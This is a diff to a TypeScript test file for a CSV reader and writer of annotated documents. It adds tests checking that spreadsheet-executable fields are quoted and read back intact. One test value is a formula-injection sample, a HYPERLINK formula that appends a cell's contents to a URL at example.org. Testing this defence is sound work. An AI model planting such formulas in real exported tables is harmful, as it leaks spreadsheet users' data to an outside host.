@@ -1,3 +1,4 @@
+import { parse } from "csv-parse/sync";
 import { describe, expect, test } from "vitest";
 import { makeDocument, withFile } from "../../../test/fixtures/documents.ts";
 import { formatContract } from "../../../test/fixtures/format-contract.ts";
@@ -28,7 +29,7 @@ describe("delimiters and columns", () => {
     for (const written of [content, `\uFEFF${content}\r\n\r\n`]) {
       const corpus = await read(written);
       expect(corpus.sources).toMatchObject([{ formats: ["csv"], documents: 2 }]);
-      expect(corpus.notices).toEqual([]);
+      expect(corpus.notices).toMatchObject([{ code: "unread-column", count: 1, locations: [{ detail: '"note"' }] }]);
       expect(corpus.documents.map(({ id, relations, source }) => [id, relations, source?.line])).toEqual([
         ["a", [{ head: 0, tail: 1, label: "DO_WHEN" }], 2],
         ["annotations-2", [], 3],
@@ -205,4 +206,50 @@ test("probabilities come back", async () => {
   const { documents } = await read(text);
   expect(documents).toMatchObject([{ id: "d", text: document.text, relations: [{ label: "x", probability: 0.125 }] }]);
   expect(surfaces({ documents } as Corpus)).toEqual([["deux", "un"]]);
+});
+
+describe("fields that a spreadsheet would run", () => {
+  const formula = '=HYPERLINK("https://example.org/?"&A1,"x") met Bob';
+  const texts = [
+    formula,
+    "'=1 met Bob",
+    "''@a met Bob",
+    "+1 met Bob",
+    "-1 met Bob",
+    "\t=1 met Bob",
+    "\r1 met Bob",
+    "＝1 met Bob",
+  ];
+  test.each([...texts, "'tis Bob and b", "=", "'"])("%j is written as text and read back as it was", async (text) => {
+    const document = makeDocument("=id", `${text} b.`, [text.trim(), "b."], [[0, 1, "-rel"]]);
+    const entities = document.entities.map((entity) => ({ ...entity, type: "@T" }));
+    const { text: table, notices } = await written([{ ...document, entities }], csv);
+    for (const field of parse(table, { columns: false }).slice(1).flat()) expect(field).not.toMatch(/^[=+\-@\t\r＝]/);
+    expect(notices).toContainEqual(expect.objectContaining({ code: "quoted-field" }));
+    const corpus = await read(table);
+    expect(corpus.documents).toMatchObject([
+      { id: "=id", text: document.text, entities, relations: document.relations },
+    ]);
+  });
+
+  test("ordinary fields are written as they are, and nothing is told", async () => {
+    const { notices } = await written([makeDocument("d", "a =1 'b", ["a", "'b"], [[0, 1, "x"]])], csv);
+    expect(notices.filter(({ code }) => code === "quoted-field")).toEqual([]);
+  });
+
+  test("the apostrophe of another's table is its own where the offsets count it", async () => {
+    const { documents } = await read(
+      `text,head,head_start,head_end,tail,tail_start,tail_end,label\n'=a b,a,2,3,b,4,5,x\n`,
+    );
+    expect(documents).toMatchObject([{ text: "'=a b", entities: [{ start: 2 }, { start: 4 }] }]);
+  });
+});
+
+test("a label that the table itself takes for none, and white space that is not read, are told", async () => {
+  const document = makeDocument("d ", "a b", ["a", "b"], [[0, 1, "NA"]]);
+  const { notices } = await written([document], csv);
+  expect(notices).toMatchObject([
+    { code: "label-of-none", lost: { relations: 1 } },
+    { code: "trimmed-field", lost: { other: 1 } },
+  ]);
 });
